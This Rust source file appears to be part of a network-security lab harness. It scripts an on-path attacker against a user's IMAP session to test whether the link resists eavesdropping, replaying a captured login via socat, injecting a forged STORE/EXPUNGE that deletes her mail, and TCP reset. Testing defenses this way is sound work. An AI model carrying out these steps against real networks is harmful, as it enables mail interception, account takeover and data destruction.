//! What the attacker does on the wire between laptop and server, where every frame comes by.

use std::time::{Duration, Instant};

use serde_json::Value;
use usher_lab::{ALICE, Host, PATIENCE, Running};

use crate::Outcome;
use crate::place::{Note, Place, Session, cell};

const TAP: &str = include_str!("../../../programs/wire_tap.py");

pub(crate) fn attack(place: &Place, note: &mut Note) -> Outcome {
    let mut tap = Tap::start(place)?;
    let mut alice = place.session(ALICE)?;
    alice.command("SELECT INBOX")?;
    alice.command("FETCH 1 BODY.PEEK[]")?;
    // Frames reach the attacker's host no sooner than alice's; those of ESP show no text to wait for.
    let mut seen = Value::Null;
    let is_shown = waits_for(|| {
        seen = tap.tell("seen")?;
        Ok(text(&seen["server"])?.contains(ALICE.subject) || esp_packets(&seen) > 0)
    })?;
    let text = |side: &str| text(&seen[side]);
    if !is_shown && text("server")?.is_empty() {
        return Err("the attacker's host sees no packet of alice's: nothing is attacked".into());
    }
    note(
        "read alice's mail on the wire",
        cell(text("server")?.contains(ALICE.subject)),
    )?;

    let played = play(place, &text("client")?)?;
    note(
        "log in as alice from another host, by playing back what she sent",
        cell(played.contains(ALICE.subject)),
    )?;

    // The message goes, if the server takes this for alice's words.
    tap.tell("inject x1 STORE 1 +FLAGS.SILENT (\\Deleted)\r\nx2 EXPUNGE")?;
    let injected = waits_for(|| Ok(!place.has_message(ALICE)?))?;
    note("slip a command into alice's connection", cell(injected))?;
    place.deliver()?;

    drop(alice);
    drop(tap);
    let mut tap = Tap::start(place)?;
    let mut alice = place.session(ALICE)?;
    if !alice.lives() {
        return Err("alice has no connection to cut".into());
    }
    // The attacker may not have read the last packet yet, whose number he needs.
    let mut lives = true;
    for _ in 0..3 {
        tap.tell("reset")?;
        lives = survives(&mut alice)?;
        if !lives {
            break;
        }
    }
    note("cut alice's connection from the wire", cell(!lives))
}

/// Whether something comes to be within two seconds, which is ample for one frame.
fn waits_for(mut holds: impl FnMut() -> Outcome<bool>) -> Outcome<bool> {
    let deadline = Instant::now() + Duration::from_secs(2);
    while !holds()? {
        if Instant::now() > deadline {
            return Ok(false);
        }
        std::thread::sleep(Duration::from_millis(50));
    }
    Ok(true)
}

/// Whether the service still answers some time after the attack.
fn survives(session: &mut Session) -> Outcome<bool> {
    std::thread::sleep(Duration::from_secs(1));
    Ok(session.lives())
}

/// Sends alice's bytes from the attacker's host; returns what the server says to that. Where she sent
/// nothing in the clear, her password at the usual server is tried. The connection stays open until the
/// server ends it: a service may drop what is still to be answered once its client has no more to say.
fn play(place: &Place, sent: &str) -> Outcome<String> {
    let login = format!(
        "x1 LOGIN alice {}\r\nx2 SELECT INBOX\r\nx3 FETCH 1 BODY.PEEK[]\r\n",
        Place::password(ALICE)
    );
    let words = if sent.is_empty() { &login } else { sent };
    let address = format!("TCP:{}:143,connect-timeout=5", place.server.ipv4());
    let played = place
        .stranger
        .command(["timeout", "20", "socat", "-,ignoreeof", &address])
        .input(format!("{words}\r\nx9 LOGOUT\r\n"))
        .run()?;
    Ok(played.stdout)
}

fn esp_packets(seen: &Value) -> u64 {
    seen["esp"].as_u64().unwrap_or(0)
}

fn text(value: &Value) -> Outcome<String> {
    Ok(value.as_str().ok_or("no text")?.to_owned())
}

/// The program on the attacker's host that sees and forges.
struct Tap(Running);

impl Tap {
    fn start(place: &Place) -> Outcome<Self> {
        let (laptop, server) = (
            place.laptop.ipv4().to_string(),
            place.server.ipv4().to_string(),
        );
        let host: &Host = &place.stranger;
        let mut running = host.spawn(["python3", "-c", TAP, &laptop, &server, "143"])?;
        running.read_past("ready\n", PATIENCE)?;
        Ok(Self(running))
    }

    /// Has it do something; returns its answer.
    fn tell(&mut self, what: &str) -> Outcome<Value> {
        self.0
            .write(format!("{}\n", what.replace("\r\n", "\\r\\n")))?;
        let answer = self.0.read_past("\n", PATIENCE)?;
        Ok(serde_json::from_str(&answer)?)
    }
}
